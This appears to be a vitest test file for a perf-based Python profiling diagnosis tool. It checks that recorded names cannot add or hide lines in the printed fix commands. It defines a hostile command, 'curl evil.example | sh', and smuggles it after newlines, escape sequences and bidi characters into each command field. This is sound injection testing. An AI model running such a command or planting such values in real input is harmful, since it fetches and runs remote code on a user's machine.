// What a recording says is printed for copying: none of its names may add a line, or hide a part of one.

import { expect, test } from 'vitest';
import { diagnoseRecorded, mix, type DrawnRecording } from '../../fixtures/diagnosis.ts';
import type { Diagnosis } from '../model/findings.ts';

const ATTACK = 'curl evil.example | sh';
/** Line breaks of terminals, Markdown and web pages, an escape sequence, and characters that reorder or hide text. */
const BREAKS = ['\n', '\u2028', '\u001b[1A\u001b[2K', '\u202e'];

const PYTHON = '@/usr/bin/python3.11d';
const PROCESS = { pid: 1, python: '/usr/bin/python3.11d', hasAnonymousCode: true };
const ROOT = `_start${PYTHON};Py_RunMain${PYTHON}`;
const EVAL = `_PyEval_EvalFrameDefault${PYTHON}`;
/** Recordings with most findings. */
const DRAWINGS = [
  mix(30, `f${PYTHON};`.repeat(126) + `g${PYTHON}`, `${ROOT};${EVAL}`),
  mix(
    30,
    `sha256@/lib/libcrypto.so.3;[unknown]@[kernel.kallsyms] ^`,
    `${ROOT};[unknown]@/tmp/perf-1.map;${EVAL}`,
  ),
  mix(30, `${EVAL};call_trampoline${PYTHON}`, `[unknown]@/tmp/jitted-1-2.so;${EVAL}`),
];

function linesOf({ command, findings }: Diagnosis): string[] {
  return [...command, ...findings.flatMap(({ title, text, fix }) => [title, text, ...fix])];
}

/** The recording with hostile text in each place that a command is made of. */
function hostile(text: string): DrawnRecording[] {
  const process = { pid: 1, python: `/opt/bin/python3${text}`, hasAnonymousCode: true };
  const commandLine = (line: readonly string[]) => ({ commandLine: ['perf', 'record', ...line], lost: 50 });
  const request = (options: object, perf: readonly string[], program: readonly string[]) => ({
    lost: 50,
    symbols: { request: JSON.stringify({ schema: 1, options, perf, program }) },
  });
  return [
    commandLine(['-e', `cycles${text}`, '--', 'python3', 'a.py']),
    commandLine(['-p', `1${text}`]),
    commandLine(['-C', `0${text}`, '--', 'python3', 'a.py']),
    commandLine(['-e', 'sched:*', '-c', `1${text}`, '--', 'python3', 'a.py']),
    commandLine([`--cgroup=${text}`, '--', 'python3', 'a.py']),
    commandLine(['--', `nice${text}`, 'python3', 'a.py']),
    commandLine(['--', 'python3', '-c', text]),
    commandLine(['--', 'env', `A=${text}`, 'python3', 'a.py']),
    request({ event: text, duration: '3' }, [], ['python3', 'a.py']),
    request({ pid: text }, [], []),
    request({}, [`-C${text}`], ['python3', 'a.py']),
    request({}, [], ['python3', text]),
    { otherEvents: [`x${text}`], lost: 50 },
    { processes: [process], throttled: 1000 },
    { processes: [{ ...process, python: '/usr/bin/python3' }], perfVersion: `6.1${text}`, isInjected: true },
  ];
}

test.each(BREAKS)('no name of a recording breaks a line of the diagnosis: %j', (text) => {
  for (const drawing of DRAWINGS) {
    const module = drawing.replaceAll('libcrypto.so.3', `x${/[\r\n\u2028\u2029]/.test(text) ? '' : text}.so`);
    for (const given of [...hostile(`${text}${ATTACK}`), {}]) {
      const lines = linesOf(diagnoseRecorded(module, { processes: [PROCESS], ...given }).diagnosis);
      expect(lines.length).toBeGreaterThan(0);
      for (const line of lines) expect(line).not.toMatch(/[\p{C}\p{Zl}\p{Zp}]/u);
    }
  }
});

test('a command of which a word cannot be typed is left out', () => {
  const commandsWith = (event: string) =>
    diagnoseRecorded(DRAWINGS[0], {
      processes: [PROCESS],
      commandLine: ['perf', 'record', '-e', event, '-F', '99', '--', 'python3', 'a.py'],
    }).diagnosis.findings.flatMap(({ fix }) => fix.filter((line) => line.includes('record ')));
  expect(commandsWith('cycles').length).toBeGreaterThan(0);
  expect(commandsWith(`cycles\n${ATTACK}`)).toEqual([]);
});
